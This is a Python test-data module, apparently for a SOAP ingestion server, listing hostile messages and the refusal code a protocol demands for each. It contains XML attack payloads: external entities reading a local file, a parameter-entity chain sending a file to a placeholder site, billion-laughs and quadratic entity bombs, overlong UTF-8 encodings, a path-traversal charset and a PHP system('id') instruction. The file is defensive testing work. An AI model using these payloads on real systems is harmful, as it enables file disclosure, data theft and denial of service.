# SPDX-License-Identifier: MIT
"""The tables of hostile_input_is_refused.py: messages that somebody sends who means harm, and the answer
that docs/protocol.md demands to each.

In a body and in headers stand @TOKEN@ and its like, which the test fills in: see its keys().  SECRET is in
values that no answer may repeat (R3.20); @SITE@ is an address that nobody may ask, @FILE@ a file that nobody
may read.  Where a call is accepted, it is one that stores nothing (R8.7).
"""
import dataclasses
import html
from typing import Callable

from campaign import SOAP

SECRET = "Zq7secret"
LONG = "n" * 1000  # as long as a name may be
CLIENT, SERVER = "SOAP-ENV:Client", "SOAP-ENV:Server"
INGEST, EXT = "xtk:session#Ingest", "xtk:session#IngestExt"
ROUTER = "/nl/jsp/soaprouter.jsp"


# --- what is expected: status, faultcode, code, code of the detail's first line -----------------------------
def client(code):
    return (500, CLIENT, code, None)


def failed(code):
    """The method ran, and did not succeed (R3.18)."""
    return (500, SERVER, "SOP-330011", code)


def refused(code):
    """The one line of text of R2.12."""
    return (403, None, code, None)


def plain(status):
    """An answer of HTTP alone."""
    return (status, None, None, None)


MALFORMED, LIMIT, EMPTY_BODY = client("CIN-100001"), client("CIN-100002"), client("CIN-100005")
ACTION, DIFFERS, DOCUMENT = client("CIN-100006"), client("CIN-100007"), client("CIN-100009")
UNKNOWN, KEY, CAST = failed("CIN-100202"), failed("CIN-100203"), failed("CIN-100204")
MUST = (500, "SOAP-ENV:MustUnderstand", "CIN-100004", None)
FINE = (200, None, None, None)
NO_SESSION, NO_LOGIN, NOT_HERE = refused("XSV-350008"), refused("XSV-350012"), refused("XSV-350013")


@dataclasses.dataclass
class Case:
    name: str
    expect: tuple
    body: str | Callable[[], str] = ""
    action: str | None = INGEST
    headers: dict = dataclasses.field(default_factory=dict)
    path: str = ROUTER
    codec: str = "utf-8"
    mark: bytes = b""           # in front of the body
    splice: bytes | None = None  # stands for the "~" in the body
    within: float = 10          # seconds
    has: str = ""               # stands in the answer


# --- messages -----------------------------------------------------------------------------------------------
def envelope(body, header="", ns=SOAP, attributes=""):
    return (f'<soapenv:Envelope xmlns:soapenv="{ns}" xmlns:urn="urn:xtk:session"{attributes}>{header}'
            f'<soapenv:Body>{body}</soapenv:Body></soapenv:Envelope>')


def call(method, parameters="", token="@TOKEN@", header=""):
    return envelope(f"<urn:{method}><urn:sessiontoken>{token}</urn:sessiontoken>{parameters}</urn:{method}>",
                    header)


def ingest(document, method="Ingest", token="@TOKEN@", header=""):
    return call(method, f"<urn:domDoc>{document}</urn:domDoc>", token, header)


def record(attributes="", content="", schema="dem:sampleTableStg"):
    return f'<sampleTableStg xtkschema="{schema}" {attributes}>{content}</sampleTableStg>'


GOOD = record('testcol1="a"')
NOTHING = f'_operation="none" _key="@id" id="{SECRET}" '


def nothing(attributes="", content="", **kw):
    """An IngestExt that is accepted and stores nothing."""
    return ingest(record(NOTHING + attributes, content), "IngestExt", **kw)


def text(value):
    """A message with VALUE, as it stands, in a text."""
    return nothing("", f"<comment>{value}</comment>")


def value(value):
    return nothing(f'testcol1="{value}"')


def changed(old, new):
    """The same, with NEW for OLD."""
    return nothing().replace(old, new)


def accepted(name, body, **kw):
    return Case(name, FINE, body, EXT, **kw)


# --- document types and entities (2.3) ----------------------------------------------------------------------
def with_dtd(name, dtd, use="testcol1=\"&x;\"", **kw):
    return Case(f"2.3 {name}", kw.pop("expect", LIMIT), dtd + ingest(record(use)), **kw)


def laughs():
    return "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))


DTDS = [
    with_dtd("entity in a value", f'<!DOCTYPE e [<!ENTITY x "{SECRET}">]>'),
    Case("2.3 entity in a text", LIMIT, f'<!DOCTYPE e [<!ENTITY x "{SECRET}">]>' + text("&x;"), EXT),
    Case("2.3 entity in the token", LIMIT,
         '<!DOCTYPE e [<!ENTITY x "@TOKEN@">]>' + ingest(GOOD, token="&x;")),
    Case("2.3 entity as a name space", LIMIT,
         f'<!DOCTYPE e [<!ENTITY x "{SOAP}">]>' + ingest(GOOD).replace(SOAP, "&x;")),
    with_dtd("external entity, a file", '<!DOCTYPE e [<!ENTITY x SYSTEM "file://@FILE@">]>'),
    with_dtd("external entity, a site", '<!DOCTYPE e [<!ENTITY x SYSTEM "@SITE@/x">]>'),
    with_dtd("external entity, PUBLIC", '<!DOCTYPE e [<!ENTITY x PUBLIC "-//x//y" "@SITE@/x">]>'),
    with_dtd("external entity, a device", '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///dev/zero">]>', within=2),
    with_dtd("external entity, other schemes",
             '<!DOCTYPE e [<!ENTITY x SYSTEM "expect://id"><!ENTITY y SYSTEM "ftp://127.0.0.1/">]>'),
    with_dtd("parameter entity", '<!DOCTYPE e [<!ENTITY % p "<!ENTITY x \'a\'>">%p;]>'),
    with_dtd("external parameter entity", '<!DOCTYPE e [<!ENTITY % p SYSTEM "@SITE@/p">%p;]>'),
    with_dtd("a file sent out by parameter entities",
             '<!DOCTYPE e [<!ENTITY % f SYSTEM "file://@FILE@"><!ENTITY % o '
             '"<!ENTITY &#37; s SYSTEM \'@SITE@/?%f;\'>">%o;%s;]>'),
    with_dtd("external subset, a site", '<!DOCTYPE e SYSTEM "@SITE@/e.dtd">', ""),
    with_dtd("external subset, PUBLIC", '<!DOCTYPE e PUBLIC "-//x//y" "@SITE@/e.dtd">', ""),
    with_dtd("external subset, a device", '<!DOCTYPE e SYSTEM "file:///dev/zero">', "", within=2),
    with_dtd("billion laughs", f'<!DOCTYPE e [<!ENTITY l0 "lol">{laughs()}]>', 'testcol1="&l11;"', within=2),
    with_dtd("quadratic blow-up", f'<!DOCTYPE e [<!ENTITY x "{"a" * 100000}">]>',
             f'testcol1="{"&x;" * 100000}"', within=2),
    with_dtd("entities in a circle", '<!DOCTYPE e [<!ENTITY x "&y;"><!ENTITY y "&x;">]>', within=2),
    with_dtd("parameter entities in a circle", '<!DOCTYPE e [<!ENTITY % p "%q;"><!ENTITY % q "%p;">%p;]>', "",
             within=2),
    with_dtd("a predefined entity anew", '<!DOCTYPE e [<!ENTITY lt "&#38;#60;">]>', 'testcol1="&lt;"'),
    with_dtd("a default for an attribute", '<!DOCTYPE e [<!ATTLIST sampleTableStg code CDATA "K1">]>', ""),
    with_dtd("an unparsed entity",
             '<!DOCTYPE e [<!NOTATION n SYSTEM "@SITE@/n"><!ENTITY x SYSTEM "@SITE@/x" NDATA n>]>', ""),
    with_dtd("a conditional section", '<!DOCTYPE e [<![INCLUDE[<!ENTITY x "a">]]>]>'),
    with_dtd("an element declaration", "<!DOCTYPE e [<!ELEMENT e (" + "(" * 5000 + ")" * 5000 + ")>]>", "",
             within=2),
    with_dtd("empty", "<!DOCTYPE e>", ""),
    with_dtd("empty subset", "<!DOCTYPE e[]>", ""),
    with_dtd("of HTML", "<!DOCTYPE html>", ""),
    with_dtd("behind a declaration", '<?xml version="1.0"?>\n<!DOCTYPE e>', ""),
    with_dtd("behind comments and instructions", '<!-- a --><?a b?><!-- > --><?c ?>\t<!DOCTYPE e>', ""),
    with_dtd("with line feeds for blanks", "<!DOCTYPE\n\te\n[\n]\n>", ""),
    with_dtd("two of them", "<!DOCTYPE e><!DOCTYPE e>", ""),
    with_dtd("not closed", "<!DOCTYPE e [", ""),
    with_dtd("8 MB long", "<!DOCTYPE e [<!--" + "x" * 8000000 + "-->]>", "", within=2),
    with_dtd("in UTF-16", "<!DOCTYPE e [<!ENTITY x 'a'>]>", codec="utf-16-le", mark=b"\xff\xfe"),
    with_dtd("in ISO-8859-1", "<!DOCTYPE \u00e5 [<!ENTITY x '\u00e4'>]>", codec="latin-1",
             headers={"Content-Type": "text/xml; charset=iso-8859-1"}),
    Case("2.3 behind the message", LIMIT, ingest(GOOD) + "<!DOCTYPE e>"),
    with_dtd("in lower case", "<!doctype e>", "", expect=MALFORMED),
    with_dtd("an entity without a document type", f'<!ENTITY x "{SECRET}">', "", expect=MALFORMED),
    Case("R3.20 an entity nobody declared, in a value", MALFORMED, value(f"a&{SECRET};b"), EXT),
    Case("R3.20 an entity nobody declared, in a text", MALFORMED, text(f"a&{SECRET};b"), EXT),
    Case("R3.20 an entity nobody declared, in a password", MALFORMED, call("Logon", (
        f"<urn:l>feed1</urn:l><urn:p>correct&{SECRET};9</urn:p><urn:e/>"), ""), "xtk:session#Logon"),
    Case("2.3 an entity of HTML", MALFORMED, value("&nbsp;"), EXT),
    Case("2.3 an ampersand alone", MALFORMED, value("a & b"), EXT),
    Case("2.3 an entity without its semicolon", MALFORMED, value("&lt "), EXT),
    accepted("2.3 a parameter entity is text elsewhere", text("%p; %%")),
]

# What asks a parser to fetch or run something, and is no more than a name or nothing at all here.
XSI = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
HINTS = [
    Case("R7.5 XInclude", UNKNOWN, nothing("", f'<xi:include {XI} href="file://@FILE@" parse="text"/>'), EXT),
    Case("R7.5 XInclude as a memo's text", UNKNOWN,
         text(f'<xi:include {XI} href="file://@FILE@" parse="text"/>'), EXT),
    Case("R7.5 XInclude as the document", UNKNOWN,
         ingest(f'<xi:include {XI} xtkschema="dem:sampleTableStg" href="@SITE@/x"/>')),
    Case("R7.1 XOP as the document", failed("XFR-180000"), ingest(
        '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:@FILE@"/>')),
    Case("R3.9 a reference for the document", DOCUMENT,
         ingest("").replace("<urn:domDoc>", '<urn:domDoc href="file://@FILE@">')),
    accepted("2.3 a style sheet", '<?xml-stylesheet type="text/xsl" href="@SITE@/s.xsl"?>' + nothing()),
    accepted("2.3 a model", '<?xml-model href="@SITE@/m.rng"?>' + nothing()),
    accepted("2.3 an instruction with code", nothing("", "<?php system('id'); ?>")),
    accepted("R3.7 a place of a schema", changed("<urn:domDoc>", (
        f'<urn:domDoc{XSI} xsi:schemaLocation="urn:a @SITE@/a" xsi:noNamespaceSchemaLocation="@SITE@/b">'))),
    accepted("R3.10 a place of a schema in the document",
             nothing(f'{XSI} xsi:noNamespaceSchemaLocation="@SITE@/b.xsd"')),
    accepted("R3.10 a base and an id", nothing('xml:base="@SITE@/" xml:id="a" xml:space="preserve"')),
    accepted("R3.10 a link of XLink", nothing(
        'xmlns:l="http://www.w3.org/1999/xlink" l:href="@SITE@/" l:actuate="onLoad"')),
    accepted("R3.10 a site as name space", nothing('xmlns="@SITE@/" xmlns:a="@SITE@/a"')),
    accepted("2.3 a document type in a comment", "<!-- <!DOCTYPE e> -->" + nothing()),
    accepted("2.3 a document type in an instruction", "<?a <!DOCTYPE e> ?>" + nothing()),
    accepted("2.3 a document type in CDATA", text("<![CDATA[<!DOCTYPE e [<!ENTITY x 'y'>]>]]>")),
    Case("2.3 an instruction called xml", MALFORMED, nothing("", '<?xml version="1.0"?>'), EXT),
    Case("2.3 an instruction not closed", MALFORMED, nothing() + "<?a b", EXT),
]


# --- depth, width, length (2.3), each within 2 s ------------------------------------------------------------
def limit(name, expect, body, action=INGEST, **kw):
    return Case(f"2.3 {name}", expect, body, action, within=2, **kw)


def attributes(count):
    return " ".join(f'a{i}=""' for i in range(count))


def namespaces(count, start=0):
    return " ".join(f'xmlns:n{start + i}="urn:n"' for i in range(count))


def children(count, child="<a/>"):
    return ingest('<a-collection xtkschema="dem:sampleTableStg">' + child * count + "</a-collection>")


def different(count):
    return ingest(record("", "".join(f"<a{i}/>" for i in range(count))))


def undeclared(count):
    return ingest(record("", "".join(f"<{LONG} " + " ".join(f'p:a{j}=""' for j in range(1000)) + "/>"
                                     for i in range(count))))


LIMITS = [  # the document is on level 5, and 6 elements are there before it has any
    limit("64 levels", UNKNOWN, ingest(record("", "<location>" * 59 + "</location>" * 59))),
    limit("65 levels", LIMIT, ingest(record("", "<location>" * 60 + "</location>" * 60))),
    limit("65 levels in the Header", LIMIT, nothing(
        header="<soapenv:Header>" + "<a>" * 63 + "</a>" * 63 + "</soapenv:Header>"), EXT),
    limit("a million levels", LIMIT, lambda: "<a>" * 1000000),
    limit("1,024 attributes", UNKNOWN, ingest(record(attributes(1023)))),
    limit("1,025 attributes", LIMIT, ingest(record(attributes(1024)))),
    limit("1,025 attributes, half of them name spaces", LIMIT,
          ingest(record(namespaces(512) + " " + attributes(512)))),
    limit("a million attributes", LIMIT, lambda: ingest(record(attributes(1000000)))),
    limit("1,025 attributes of the Body", LIMIT,
          changed("<soapenv:Body", f"<soapenv:Body {attributes(1025)}"), EXT),
    limit("an attribute of 10,000,001 bytes", LIMIT, lambda: value("x" * 10000001)),
    limit("an attribute of 10,000,000 bytes", failed("CIN-100205"), lambda: value("x" * 10000000), EXT),
    limit("a name space of 10,000,001 bytes", LIMIT, lambda: nothing(f'xmlns:a="urn:{"x" * 9999997}"'), EXT),
    limit("a text of 10,000,001 bytes around a comment", LIMIT,
          lambda: text(f'{"x" * 5000000}<!-- -->{"x" * 5000001}'), EXT),
    limit("a text of 10,000,001 bytes in CDATA", LIMIT,
          lambda: text(f'<![CDATA[{"x" * 5000000}]]>{"x" * 5000001}'), EXT),
    limit("a text of 10,000,001 bytes in two-byte characters", LIMIT,
          lambda: text("\u00e5" * 5000000 + "x"), EXT),
    limit("a text of 10,000,001 bytes in the Header", LIMIT, lambda: nothing(
        header="<soapenv:Header><a>" + "x" * 10000001 + "</a></soapenv:Header>"), EXT),
    limit("a token of 10,000,001 bytes", LIMIT, lambda: nothing(token="x" * 10000001), EXT),
    limit("a comment of 11 MB is no text", FINE, lambda: nothing("", "<!--" + "x" * 11000000 + "-->"), EXT),
    limit("a name of 1,000 characters", UNKNOWN, ingest(record(LONG + '=""'))),
    limit("an element's name of 1,000 characters", UNKNOWN, ingest(record("", f"<{LONG}/>"))),
    limit("an element's name of 1,001 characters", LIMIT, ingest(record("", f"<{LONG}n/>"))),
    limit("a name of 1,001 characters with its prefix", LIMIT,
          ingest(record(f'xmlns:p="urn:p" p:{LONG[1:]}=""'))),
    limit("a name of 1,000 characters of four bytes", UNKNOWN, ingest(record("\U00020000" * 1000 + '=""'))),
    limit("a name of 1,001 characters of four bytes", LIMIT, ingest(record("\U00020000" * 1001 + '=""'))),
    limit("a prefix of 1,001 characters", LIMIT, ingest(record(f'xmlns:{LONG}n="urn:p"'))),
    limit("an instruction's name of 1,001 characters", LIMIT, nothing("", f"<?{LONG}n ?>"), EXT),
    limit("a name of 10 MB", LIMIT, lambda: ingest(record("", f'<{"n" * 10000000}/>'))),
    limit("500,000 elements", failed("CIN-100206"), lambda: children(499994)),
    limit("500,001 elements", LIMIT, lambda: children(499995)),
    limit("500,001 elements in the Header", LIMIT, lambda: nothing(
        header="<soapenv:Header>" + "<a/>" * 499995 + "</soapenv:Header>"), EXT),
    limit("1,024 name spaces in force", FINE, nothing(namespaces(511)).replace(
        "<urn:domDoc>", f"<urn:domDoc {namespaces(511, 511)}>"), EXT),
    limit("1,025 name spaces in force", LIMIT, nothing(namespaces(512)).replace(
        "<urn:domDoc>", f"<urn:domDoc {namespaces(511, 512)}>"), EXT),
    limit("2,000 name spaces, not at once", FINE, nothing(
        header="<soapenv:Header>" + f"<a {namespaces(1000)}/>" * 2 + "</soapenv:Header>"), EXT),
    limit("10,001 different names", LIMIT, different(10001)),
    limit("100,000 different names of attributes", LIMIT, lambda: ingest("<a>" + "".join(
        f"<b {' '.join(f'a{i * 1000 + j}=' + chr(34) * 2 for j in range(1000))}/>" for i in range(100))
        + "</a>")),
    limit("10,020 different name spaces", LIMIT, ingest("<a>" + "".join(
        "<b " + " ".join(f'xmlns:n{j}="urn:{i * 501 + j}"' for j in range(501)) + "/>" for i in range(20))
        + "</a>")),
    limit("20,000 prefixes that nobody declared, of long elements", UNKNOWN, lambda: undeclared(20)),
    limit("400,000 prefixes that nobody declared, of long elements", LIMIT, lambda: undeclared(400)),
    limit("4 MB of opening brackets", MALFORMED, lambda: "<" * 4000000),
    limit("4 MB of closing brackets", MALFORMED, lambda: ">" * 4000000),
    limit("4 MB of ampersands", MALFORMED, lambda: "<a>" + "&" * 4000000),
    limit("4 MB of quotes", MALFORMED, lambda: '<a b="" ' + "'\"" * 2000000),
    limit("4 MB of comments that open", MALFORMED, lambda: "<!--" * 1000000),
    limit("4 MB of CDATA that opens", MALFORMED, lambda: "<a>" + "<![CDATA[" * 450000),
    limit("4 MB of instructions that open", MALFORMED, lambda: "<?a " * 1000000),
    limit("4 MB of ends", MALFORMED, lambda: "</a>" * 1000000),
    limit("4 MB of blanks", MALFORMED, lambda: " " * 4000000),
    limit("4 MB of references", MALFORMED, lambda: "<a>" + "&#65;" * 800000),
]


# --- character sets (R2.2) ----------------------------------------------------------------------------------
def charset(name, charset, encoding="", expect=MALFORMED, body=None, **kw):
    """BODY, or a good call, in a declaration's ENCODING and a Content-Type's CHARSET."""
    body = ingest(GOOD) if body is None else body
    if encoding:
        body = f'<?xml version="1.0" encoding="{encoding}"?>' + body
    return Case(f"R2.2 {name}", expect, body, kw.pop("action", INGEST),
                headers={"Content-Type": f"text/xml; charset={charset}" if charset else "text/xml"}, **kw)


def spliced(name, splice, in_value=False, expect=MALFORMED):
    return Case(f"R2.2 {name}", expect, value("~") if in_value else text("~"), EXT, splice=splice)


CHARSETS = [
    charset("UTF-7 by Content-Type", "utf-7", body=ingest(GOOD).replace("<", "+ADw-")),
    charset("UTF-7 by declaration", "", "UTF-7"),
    charset("UTF-32 by Content-Type", "utf-32", codec="utf-32-le"),
    charset("UTF-32 little with a mark", "", codec="utf-32-le", mark=b"\xff\xfe\0\0"),
    charset("UTF-32 big with a mark", "", codec="utf-32-be", mark=b"\0\0\xfe\xff"),
    charset("UCS-4 without a mark", "", codec="utf-32-be"),
    charset("UTF-16 little with the mark of big", "", codec="utf-16-le", mark=b"\xfe\xff"),
    charset("UTF-16 big with the mark of little", "", codec="utf-16-be", mark=b"\xff\xfe"),
    charset("UTF-16 with the mark of UTF-8", "", codec="utf-16-le", mark=b"\xef\xbb\xbf"),
    charset("UTF-8 with the mark of UTF-16", "", mark=b"\xff\xfe"),
    charset("UTF-16 by nothing at all", "", codec="utf-16-be"),
    charset("UTF-16 called UTF-8", "utf-8", codec="utf-16-le"),
    charset("UTF-8 called UTF-16LE", "utf-16le"),
    charset("UTF-16LE by name without a mark", "utf-16le", codec="utf-16-le"),
    charset("UTF-16 with a surrogate that ends it", "", body=nothing() + "\udbff", codec="utf-16-le",
            mark=b"\xff\xfe"),
    charset("UTF-16 with a low surrogate first", "", body=text("\udc00\ud800"), codec="utf-16-be",
            mark=b"\xfe\xff"),
    charset("nothing but a mark of UTF-8", "", body="", mark=b"\xef\xbb\xbf"),
    charset("nothing but a mark of UTF-16", "", body="", mark=b"\xff\xfe"),
    charset("half a mark", "", body="", mark=b"\xef\xbb"),
    charset("two marks", "", mark=b"\xef\xbb\xbf\xef\xbb\xbf"),
    charset("EBCDIC", "", codec="cp037"),
    charset("EBCDIC by name", "cp037", codec="cp037"),
    charset("GBK", "gbk"),
    charset("Shift_JIS by declaration", "", "Shift_JIS"),
    charset("ISO-2022-JP", "iso-2022-jp"),
    charset("HZ", "hz-gb-2312"),
    charset("UTF-EBCDIC", "", "UTF-EBCDIC"),
    charset("a set that is a path", "../../../../etc/passwd"),
    charset("a set that is an option of iconv", "UTF-8//TRANSLIT//IGNORE"),
    charset("a declared set that is an option of iconv", "", "UTF-8//IGNORE"),
    charset("a name of 7,000 characters", "x" * 7000),
    charset("a declared name of 1 MB", "", "x" * 1000000),
    charset("a declared name that is empty", "", body='<?xml version="1.0" encoding=""?>' + ingest(GOOD)),
    charset("a high byte where Content-Type says ASCII and the declaration Latin 1", "us-ascii", "iso-8859-1",
            body=text("\u00e5"), codec="latin-1", action=EXT),
    charset("a mark over what both say", "iso-8859-1", "windows-1252", body=text("\u00e5"), codec="latin-1",
            mark=b"\xef\xbb\xbf", action=EXT),
    charset("version 2.0", "", body=f'<?xml version="2.0{SECRET}"?>' + ingest(GOOD)),
    charset("a declaration without a version", "", body='<?xml encoding="UTF-8"?>' + ingest(GOOD)),
    charset("a declaration behind a blank", "", body=' <?xml version="1.0"?>' + ingest(GOOD)),
    charset("two declarations", "", body='<?xml version="1.0"?>' * 2 + ingest(GOOD)),
    charset("standalone neither yes nor no", "", body='<?xml version="1.0" standalone="maybe"?>'
            + ingest(GOOD)),
    spliced("'<' in two bytes", b"\xc0\xbc"),
    spliced("'<' in three bytes", b"\xe0\x80\xbc"),
    spliced("'<' in four bytes", b"\xf0\x80\x80\xbc"),
    spliced("a quote in two bytes", b"\xc0\xa2", True),
    spliced("NUL in two bytes", b"\xc0\x80", True),
    spliced("a sequence of five bytes", b"\xf8\x88\x80\x80\x80"),
    spliced("a sequence of six bytes", b"\xfc\x84\x80\x80\x80\x80"),
    spliced("bytes that never stand in UTF-8", b"\xfe\xff"),
    spliced("a byte that continues nothing", b"\x80"),
    spliced("a byte too many", b"\xc3\xa5\xa5", True),
    spliced("a pair of surrogates (CESU-8)", b"\xed\xa0\xbd\xed\xb8\x80", True),
    spliced("a low surrogate", b"\xed\xb0\x80"),
    spliced("above U+10FFFF", b"\xf5\x80\x80\x80"),
    spliced("a sequence cut by a tag", b"\xf0\x9f\x98"),
    Case("R2.2 a sequence cut by the end", MALFORMED, nothing() + "~", EXT, splice=b"\xe2\x82"),
    spliced("Latin 1 where nothing is said", b"\xe5", True),
]


# --- NUL, control characters, references (XML 1.0, 2.2) -----------------------------------------------------
def code_points():
    """Characters that XML does not have, as they are and as references, in a value and in a text."""
    for point in (0, 1, 8, 0xb, 0xc, 0xe, 0x1f, 0xfffe, 0xffff):
        if point not in (1, 0xffff):  # every_charset_arrives has these in a text
            yield Case(f"2.3 U+{point:04X} in a text", MALFORMED, text(chr(point)), EXT)
        yield Case(f"2.3 U+{point:04X} in a value", MALFORMED, value(chr(point)), EXT)
    for reference in ("#0", "#x0", "#00000000", "#1", "#8", "#xB", "#x1F", "#xD800", "#xDBFF", "#xDFFF",
                      "#xFFFE",
                      "#xFFFF", "#x110000", "#1114112", "#4294967296", "#4294967361", "#x100000041", "#-65",
                      "#+65",
                      "#x10000000000000041", "# 65", "#x", "#", "#xG", "#6 5", "#X41", "#65a"):
        yield Case(f"2.3 &{reference}; in a value", MALFORMED, value(f"&{reference};"), EXT)
    for reference in ("#xD800", "#xFFFF", "#x1F", "#4294967361", "#X41"):
        yield Case(f"2.3 &{reference}; in a text", MALFORMED, text(f"&{reference};"), EXT)
    for where, body in (
      ("the token", nothing(token="@TOKEN@\0")), ("a name", nothing("test\0col1=''")),
      ("a comment", nothing("", "<!-- \0 -->")), ("an instruction", nothing("", "<?a \0?>")),
      ("CDATA", text("<![CDATA[\0]]>")), ("the Envelope's name space", changed(SOAP, SOAP + "\0")),
      ("front of the message", "\0" + nothing()), ("the end of the message", nothing() + "\0"),
      ("the middle, another message behind it", nothing() + "\0" + nothing())):
        yield Case(f"2.3 NUL in {where}", MALFORMED, body, EXT)
    yield Case("2.3 &#65 without its semicolon", MALFORMED, value("&#65 "), EXT)
    yield Case("2.3 a reference of 1,000,000 digits", MALFORMED, value("&#" + "9" * 1000000 + ";"), EXT,
               within=2)
    for control in ("\x7f", "\x80", "\x9f"):
        yield Case(f"6.2 U+{ord(control):04X} in a uuid", CAST,
                   ingest(record(f'_key="@id" id="a{control}b"')))
    for reference in ("&#10;", "&#13;", "&#9;"):
        yield Case(f"6.2 {reference} in a uuid", CAST, ingest(record(f'_key="@id" id="a{reference}b"')))


CHARACTERS = list(code_points())

# --- CDATA and tags -----------------------------------------------------------------------------------------
TAGS = [
    Case("2.3 CDATA not closed", MALFORMED, text("<![CDATA[ a"), EXT),
    Case("2.3 CDATA within CDATA", MALFORMED, text("<![CDATA[ <![CDATA[ ]]> ]]>"), EXT),
    Case("2.3 the end of CDATA alone", MALFORMED, text("a ]]> b"), EXT),
    Case("2.3 CDATA in lower case", MALFORMED, text("<![cdata[ a ]]>"), EXT),
    Case("2.3 CDATA in a value", MALFORMED, value("<![CDATA[a]]>"), EXT),
    Case("2.3 CDATA around the message", MALFORMED, "<![CDATA[" + nothing() + "]]>", EXT),
    Case("2.3 CDATA behind the message", MALFORMED, nothing() + "<![CDATA[ ]]>", EXT),
    Case("R3.9 CDATA for the document", DOCUMENT, ingest(f"<![CDATA[{GOOD}]]>")),
    Case("R3.9 escaped text for the document", DOCUMENT, ingest(html.escape(GOOD))),
    Case("R3.9 CDATA beside the document", DOCUMENT, ingest(f"<![CDATA[{SECRET}]]>" + GOOD)),
    accepted("R3.8 CDATA in the token", nothing(token="<![CDATA[@TOKEN@]]>")),
    Case("2.3 an attribute twice", MALFORMED, nothing(f'testcol1="{SECRET}" testcol1="b"'), EXT),
    Case("2.3 an attribute without a value", MALFORMED, nothing("testcol1"), EXT),
    Case("2.3 an attribute without quotes", MALFORMED, nothing(f"testcol1={SECRET}"), EXT),
    Case("2.3 an attribute without a name", MALFORMED, nothing(f'="{SECRET}"'), EXT),
    Case("2.3 no blank between attributes", MALFORMED, nothing('testcol1="a"testcol2="b"'), EXT),
    Case("2.3 '<' in a value", MALFORMED, value(f"<{SECRET}"), EXT),
    Case("2.3 tags that cross", MALFORMED, nothing("", "<location><comment></location></comment>"), EXT),
    Case("2.3 an end with attributes", MALFORMED, nothing("", '<location></location a="b">'), EXT),
    Case("2.3 a name that begins with a digit", MALFORMED, nothing("", "<1a/>"), EXT),
    Case("2.3 a comment with two dashes", MALFORMED, nothing("", f"<!-- {SECRET} -- -->"), EXT),
    Case("2.3 a comment not closed", MALFORMED, nothing("", f"<!-- {SECRET} "), EXT),
    Case("4.6 an end that would have clients log on again", MALFORMED, nothing("", "<a></XSV-350008>"), EXT),
    Case("4.6 an attribute that would have clients log on again", UNKNOWN, ingest(record('XSV-350008=""'))),
    Case("4.6 an element that would have clients log on again", UNKNOWN,
         ingest(record("", "<a.XSV-350008.XSV-350008/>"))),
    Case("4.6 a schema that would have clients log on again", failed("XFR-180000"),
         ingest(record(schema="XSV-350008"))),
    Case("4.6 a key that would have clients log on again", KEY,
         ingest(record('_key="@XSV-350008" testcol1="a"'))),
    Case("4.6 a header that would have clients log on again", MUST, nothing(
        header='<soapenv:Header><XSV-350008 soapenv:mustUnderstand="1"/></soapenv:Header>'), EXT),
    Case("2.3 text behind the message", MALFORMED, nothing() + SECRET, EXT),
    Case("2.3 a second message", MALFORMED, nothing() + nothing(), EXT),
    Case("2.3 a second message with its declaration", MALFORMED,
         nothing() + '<?xml version="1.0"?>' + nothing(), EXT),
    Case("2.3 text in front of the message", MALFORMED, SECRET + nothing(), EXT),
    Case("2.3 JSON", MALFORMED, f'{{"xtkschema": "dem:sampleTableStg", "testcol1": "{SECRET}"}}'),
    Case("2.3 a form", MALFORMED, f"xtkschema=dem%3AsampleTableStg&testcol1={SECRET}"),
    Case("2.3 binary XML", MALFORMED, "~", splice=b"\xe0\x00\x00\x01" + bytes(range(256))),
    Case("2.3 gzip that is not called so", MALFORMED, "~", splice=b"\x1f\x8b\x08\x00" + bytes(range(200))),
]

# --- the envelope (3.1) -------------------------------------------------------------------------------------
OTHER = "urn:other"
VERSION = (500, "SOAP-ENV:VersionMismatch", "CIN-100003", None)


def header(entries):
    return nothing(header=f"<soapenv:Header>{entries}</soapenv:Header>")


def shaped(name, expect, body, action=EXT):
    return Case(name, expect, body, action)


MANDATORY = '<soapenv:Header><a soapenv:mustUnderstand="1"/></soapenv:Header>'
INNER = nothing().partition("<soapenv:Body>")[2].partition("</soapenv:Body>")[0]
ENVELOPES = [
    shaped("R3.1 SOAP 1.2 by its Content-Type too", VERSION,
           changed(SOAP, "http://www.w3.org/2003/05/soap-envelope")),
    shaped("R3.1 a name space with a letter's case changed", VERSION,
           changed(SOAP, SOAP.replace("soap/", "SOAP/"))),
    shaped("R3.1 a name space without its slash", VERSION, changed(SOAP, SOAP[:-1])),
    shaped("R3.1 a name space with a blank", VERSION, changed(SOAP, SOAP + " ")),
    shaped("R3.1 no name space", VERSION, f"<Envelope><Body>{INNER}</Body></Envelope>"),
    shaped("R3.1 the prefix for another name space", VERSION, changed(SOAP, OTHER)),
    shaped("R3.1 Envelope in lower case", EMPTY_BODY, changed("soapenv:Envelope", "soapenv:envelope")),
    shaped("R3.3 Body in lower case", EMPTY_BODY, changed("soapenv:Body", "soapenv:body")),
    shaped("R3.3 Body in another name space", EMPTY_BODY,
           changed("<soapenv:Body>", f'<soapenv:Body xmlns:soapenv="{OTHER}">')),
    shaped("R3.3 Body within another element", EMPTY_BODY,
           changed("<soapenv:Body>", "<a><soapenv:Body>").replace("</soapenv:Body>", "</soapenv:Body></a>")),
    shaped("R3.3 the Envelope within another element", EMPTY_BODY, f"<a>{nothing()}</a>"),
    shaped("R2.7 an Envelope within the Body", DIFFERS, envelope(nothing())),
    shaped("R3.3 two Bodies", EMPTY_BODY,
           changed("</soapenv:Body>", f"</soapenv:Body><soapenv:Body>{INNER}</soapenv:Body>")),
    shaped("R3.3 two Bodies, one empty", EMPTY_BODY,
           changed("<soapenv:Body>", "<soapenv:Body/><soapenv:Body>")),
    shaped("R3.3 two method elements, the second harmless", EMPTY_BODY, envelope(
        INNER + "<urn:GetServerTime/>")),
    shaped("R3.3 two method elements, the first harmless", EMPTY_BODY, envelope(
        "<urn:GetServerTime><urn:sessiontoken/></urn:GetServerTime>" + INNER), "xtk:session#GetServerTime"),
    shaped("R3.3 text for a method element", EMPTY_BODY, envelope(SECRET)),
    shaped("R3.3 CDATA for a method element", EMPTY_BODY, envelope(f"<![CDATA[{INNER}]]>")),
    shaped("R3.3 a comment for a method element", EMPTY_BODY, envelope("<!-- a -->")),
    shaped("R3.3 only a Header", EMPTY_BODY, f'<e:Envelope xmlns:e="{SOAP}"><e:Header/></e:Envelope>'),
